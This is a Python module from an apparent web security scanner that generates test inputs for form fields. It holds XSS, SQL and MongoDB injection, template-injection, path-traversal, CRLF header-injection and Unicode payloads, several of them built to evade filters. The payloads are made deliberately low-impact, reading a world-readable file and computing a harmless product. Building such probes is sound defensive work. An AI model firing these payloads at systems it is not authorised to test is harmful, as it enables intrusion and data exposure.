"""This file is for payloads that are text with a meaning to somebody behind the field: a browser, a database, a template."""

from __future__ import annotations

import secrets
from collections.abc import Iterator
from dataclasses import replace

from probes.payload_places import Bracket, Put
from probes.payloads import Made, Payload, Stance

_UP = "../" * 8
# The path leads to a file that everybody may read and nobody can write or delete, whatever the request does with it.
_FILE = "proc/version"

_MARKUP, _TEXT = Stance.MARKUP, Stance.TEXT

_SCRIPT = (
    ("tag", "a script tag", "<script>~()</script>", _MARKUP, True),
    ("unknown_tag", "a tag that no browser knows", "<~ x=1>", _MARKUP, True),  # which no list of bad words holds
    ("attribute", "a quote that ends an attribute", '^" autofocus onfocus="~()', _MARKUP, True),
    ("handler", "an image with an event handler", "<img src=x onerror=~()>", _MARKUP, True),
    ("javascript_url", "a javascript: address", "javascript:~()", _MARKUP, True),
    ("svg", "an SVG with an event handler", "<svg/onload=~()>", _MARKUP, True),
    ("polyglot", "markup for several contexts", "'\"></title></textarea></script>--><svg onload=~()>", _MARKUP, True),
    ("single_quote", "a single quote that ends an attribute", "^' autofocus onfocus='~()", _MARKUP, False),
    ("mixed_case", "a script tag in mixed case", "<ScRiPt>~()</sCrIpT>", _MARKUP, False),
    ("unclosed", "a tag without an end", "^<img src=x onerror=~() ", _MARKUP, False),
    ("nested", "a tag that is left when one is taken out", "<scr<script>ipt>~()</scr</script>ipt>", _MARKUP, False),
    ("in_script", "a quote that ends a text in a script", "^'-~()-'", _TEXT, False),
    ("in_script_double", "a double quote that ends a text in a script", '^"-~()-"', _TEXT, False),
    ("fullwidth", "full-width angle brackets", "＜script＞~()＜/script＞", _TEXT, False),
    ("encoded_tag", "a script tag as HTML entities", "&lt;script&gt;~()&lt;/script&gt;", _TEXT, False),
)
_SQL = (
    ("boolean", "an SQL condition", "^' AND '1'='1", _MARKUP, True),
    ("union", "an SQL union", "^' UNION SELECT NULL WHERE '1'='2", _MARKUP, True),
    ("comment", "an SQL comment", "^'/*~*/AND/**/'1'='1", _MARKUP, True),
    ("quote", "a single quote", "^'", _TEXT, True),
    ("double_quote", "a double quote", '^"', _TEXT, False),
    ("backslash", "a backslash before the end", "^\\", _TEXT, False),
    ("parenthesis", "a quote and a parenthesis", "^')", _TEXT, False),
    ("number", "an SQL condition on a number", "^ AND 1=1", _MARKUP, False),
)
_TEMPLATES = (
    ("curly", "{{", "}}", True),
    ("dollar", "${", "}", True),
    ("erb", "<%= ", " %>", True),
    ("hash", "#{", "}", False),
    ("star", "*{", "}", False),
    ("razor", "@(", ")", False),
    ("smarty", "{", "}", False),
    ("pug", "#set($v=", ")$v", False),
)


def texts(made: Made) -> Iterator[Payload]:
    """Yield the payloads of text for a field."""
    for family, table in (("script", _SCRIPT), ("sql", _SQL)):
        for name, called, text, stance, basic in table:
            yield made.text(f"{family}.{name}", called, text, stance, basic=basic)
    yield from _nosql(made)
    yield from _templates(made)
    yield from _paths(made)
    yield from _headers(made)
    yield from _unicode(made)


def _nosql(made: Made) -> Iterator[Payload]:
    """Yield operators of MongoDB. Where the method may write, they match what the good value matches and no more."""
    good, wide = made.good, made.reads
    objects = (
        ("greater", "the operator $gt", {"$gt": ""} if wide else {"$gte": good, "$lte": good}, True),
        ("in", "the operator $in", {"$in": [good]}, False),
        ("regex", "the operator $regex", {"$regex": ".*"} if wide else {"$eq": good}, False),
    )
    for name, called, value, basic in objects:
        yield Payload(f"nosql.{name}", called, Put(value), Stance.NEVER, basic=basic)
    key, text = ("$ne", "") if wide else ("$eq", made.good_text)
    yield Payload("nosql.bracket", f"the operator {key} in brackets", Bracket(key, text), Stance.NEVER)


def _templates(made: Made) -> Iterator[Payload]:
    for name, before, after, basic in _TEMPLATES:
        a, b = (10_000 + secrets.randbelow(90_000) for _ in range(2))
        one = made.text(f"template.{name}", f"the template expression {before}…{after}", f"~{before}{a}*{b}{after}", basic=basic)
        yield replace(one, product=str(a * b))


def _paths(made: Made) -> Iterator[Payload]:
    yield made.text("path_traversal.plain", "a path upwards", f"{_UP}{_FILE}")
    yield made.text("path_traversal.absolute", "an absolute path", f"/{_FILE}", basic=False)
    yield made.encoded("path_traversal.encoded", "an encoded path upwards", "..%2f" * 8 + _FILE.replace("/", "%2f"), basic=True)
    yield made.encoded("path_traversal.twice_encoded", "a twice encoded path upwards", "%252e%252e%252f" * 8 + "proc%252fversion")
    yield made.text("path_traversal.doubled", "a path that is left when ../ is taken out", "....//" * 8 + _FILE, basic=False)
    yield made.text("path_traversal.file_url", "a file: address", f"file:///{_FILE}", basic=False)
    if made.reads:
        yield made.text("path_traversal.backslash", "a path upwards for Windows", "..\\" * 8 + "windows\\win.ini", basic=False)


def _headers(made: Made) -> Iterator[Payload]:
    yield made.text("header_injection.crlf", "a line break with a header", "^\r\nX-~: 1")
    yield made.text("header_injection.lf", "a line feed with a cookie", "^\nSet-Cookie: ~=1", basic=False)
    yield made.encoded("header_injection.encoded", "an encoded line break with a header", "x%0d%0aX-~:%201", basic=True)
    yield made.encoded("header_injection.twice_encoded", "a twice encoded line break with a header", "x%250d%250aX-~:%25201")
    yield made.text(
        "header_injection.wide", "characters that become a line break when cut to bytes", "^嘍嘊X-~: 1", _TEXT, basic=False
    )


def _unicode(made: Made) -> Iterator[Payload]:
    text, free = made.good_text, _TEXT
    confused = text.translate(str.maketrans("aceopxyAEOPX0123456789", "асеорхуАЕОРХ０１２３４５６７８９"))
    if confused != text:
        yield made.text("unicode.confusable", "look-alike letters or digits", confused.replace("^", ""), free)
    yield made.text("unicode.invisible", "an invisible character", "^\u200b", free, basic=False)
    yield made.text("unicode.right_to_left", "a mark that turns the reading direction", "\u202e^", free)
    yield made.text("unicode.combining", "a character with a hundred accents", "^" + "\u0301" * 100, free, basic=False)
    yield made.text("unicode.astral", "a character beyond 16 bits", "^\U0001f600", free)
